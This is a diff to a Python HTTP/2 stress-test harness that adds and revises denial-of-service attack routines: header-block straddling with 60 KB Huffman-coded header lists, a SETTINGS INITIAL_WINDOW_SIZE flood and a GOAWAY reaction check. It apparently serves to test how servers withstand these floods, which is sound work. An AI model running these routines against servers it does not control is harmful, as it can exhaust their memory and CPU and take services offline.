@@ -24,7 +24,7 @@ import time
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 from h2raw import (CONTINUATION, Conn, HOST, PING, PREFACE, S_INITIAL_WINDOW_SIZE,  # noqa: E402
                    S_MAX_CONCURRENT_STREAMS, SETTINGS, continuation, data, error_name, frame, frame_header,
-                   headers, hp_literal, nonblocking_connect_many, ping, priority, priority_update,
+                   headers, hp_literal, hp_literal_huffman_a, nonblocking_connect_many, ping, priority, priority_update,
                    request_block, rst_stream, settings, wait_fd, window_update)
 
 # Files the harness puts in the document root (run.py make_root()).
@@ -240,16 +240,31 @@ def _straddle(ctx, chunks, batch, priming=None, unit='requests'):
     return result(ctx, [c], unit, after=by_stream(), responses_200=c.statuses.get(200, 0))
 
 
-@attack('straddle-60k', 'Header-block straddle, 60 KB literal header lists', 'requests', kind='memory')
+@attack('straddle-60k', 'Header-block straddle, 60 KB header lists (Huffman-coded literals)', 'requests',
+        kind='memory')
 def straddle_60k(ctx):
-    """Every write ends inside the next request's header block (last
-    CONTINUATION of request k + HEADERS without END_HEADERS of k+1); each
-    request carries 15 x 4,000-octet literal fields without indexing (~60 KB,
-    under a 64 KiB header-list limit) in HEADERS + 3 CONTINUATION."""
+    """Every write ends inside the next request's header block: the last
+    CONTINUATION of request k, then a small HEADERS of request k+1 (its
+    first 64 octets, no END_HEADERS: a small frame so that the server's
+    read() does not end inside it). Each request carries 15 literal fields
+    without indexing whose values are 4,000 octets Huffman-coded into 2,500
+    (~60 KB decoded, under a 64 KiB header-list limit; 37.6 KB on the wire:
+    HEADERS + 3 CONTINUATION)."""
+    fields = b''.join(hp_literal_huffman_a(b'x-h%02d' % i, 4000) for i in range(15))
+    return _straddle(ctx, _small_head_chunks(request_block() + fields), batch=1)
+
+
+def _small_head_chunks(block, head=64):
+    return [block[:head]] + [block[i:i + 16384] for i in range(head, len(block), 16384)]
+
+
+@attack('straddle-60k-raw', 'Header-block straddle, 60 KB header lists (plain literals, no Huffman)', 'requests',
+        kind='memory')
+def straddle_60k_raw(ctx):
+    """As straddle-60k with the values sent as plain octets (a decoder can
+    point into its input instead of copying them)."""
     fields = b''.join(hp_literal(b'x-h%02d' % i, b'a' * 4000) for i in range(15))
-    block = request_block() + fields
-    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
-    return _straddle(ctx, chunks, batch=1)
+    return _straddle(ctx, _small_head_chunks(request_block() + fields), batch=1)
 
 
 @attack('straddle-indexed', 'Header-block straddle with HPACK indexing (~50 octets per 60 KB request)',
@@ -281,7 +296,8 @@ def hpack_bomb(ctx):
 def settings_iws_flip(ctx):
     """100 streams held open at window 0, then SETTINGS frames of 2,730
     INITIAL_WINDOW_SIZE entries alternating 1 and 0 (each a walk over every
-    stream if applied one by one), four frames per write, ACKs read."""
+    stream if applied one by one), four frames per write, at most 64
+    unacknowledged (ACKs read as they come)."""
     c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
     handshake(c)
     opened = open_streams(c, 100)
@@ -291,8 +307,8 @@ def settings_iws_flip(ctx):
     base = c.settings_acks
     sent = 0
     while ctx.running() and c.alive():
-        # a client that reads its ACKs: at most 8 frames unacknowledged
-        c.pump_until(lambda: sent - (c.settings_acks - base) <= 4, 2.0)
+        # a client that reads its ACKs: at most 64 frames unacknowledged
+        c.pump_until(lambda: sent - (c.settings_acks - base) <= 60, 2.0)
         c.send(f * 4, frames=4, units=4 * 2730)
         sent += 4
         c.pump()
@@ -302,6 +318,27 @@ def settings_iws_flip(ctx):
     return result(ctx, [c], 'entries', settings_acked=acked,
                   after=lambda g, u: f'after {fmt((g["settings_acks"] - base) * 2730)} entries processed '
                                      f'({fmt(g["settings_acks"] - base)} frames ACKed, {fmt(g["units"])} sent)')
+
+
+@attack('settings-iws-flip-flood', 'As settings-iws-flip without waiting for ACKs (read as they come)', 'entries',
+        kind='cpu')
+def settings_iws_flip_flood(ctx):
+    """The same SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries with
+    100 streams open, four frames per write as fast as the server takes
+    them; ACKs are read after every write but not waited for."""
+    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
+    handshake(c)
+    opened = open_streams(c, 100)
+    ctx.notes.append(f'{len(opened)} streams open')
+    payload = b''.join(struct.pack('>HI', S_INITIAL_WINDOW_SIZE, 1 - (i & 1)) for i in range(2730))
+    base = c.settings_acks
+    loop_send(ctx, c, frame(SETTINGS, 0, 0, payload) * 4, frames=4, units=4 * 2730)
+    c.drain(0.3)
+    acked = c.settings_acks - base
+    ctx.notes.append(f'{fmt(acked)} of these SETTINGS ACKed')
+    return result(ctx, [c], 'entries', settings_acked=acked,
+                  after=lambda g, u: f'after {fmt((g["settings_acks"] - base) * 2730)} entries ACKed '
+                                     f'({fmt(g["units"])} sent)')
 
 
 # ------------------------------------------------------------------ 3. rapid reset
@@ -933,10 +970,17 @@ def goaway_unread(ctx):
     err_t = ctx.elapsed()
     _wait_close_unread(ctx, c)
     if c.closed:
-        ctx.notes.append(f'closed {c.closed_t - err_t:.1f} s after the error')
+        first = f'server closed {c.closed_t - err_t:.1f} s after the error'
     else:
-        ctx.notes.append(f'still open {ctx.elapsed() - err_t:.1f} s after the error')
-    return result(ctx, [c], 'streams')
+        first = f'connection held {ctx.elapsed() - err_t:.1f} s after the error (until the end)'
+    # Then read (up to 1.5 s / 256 MiB) to see whether a GOAWAY was queued.
+    c.closed = None
+    n = c.drain(1.5, 256 << 20)
+    then = (f'GOAWAY {c.goaways[0]["error"]} found' if c.goaways else 'no GOAWAY') + \
+        f' in the {n / 2**20:.0f} MiB read afterwards'
+    out = result(ctx, [c], 'streams')
+    out['reaction'] = f'{first}; {then}'
+    return out
 
 
 # ------------------------------------------------------------------ 13. cleartext port oddities
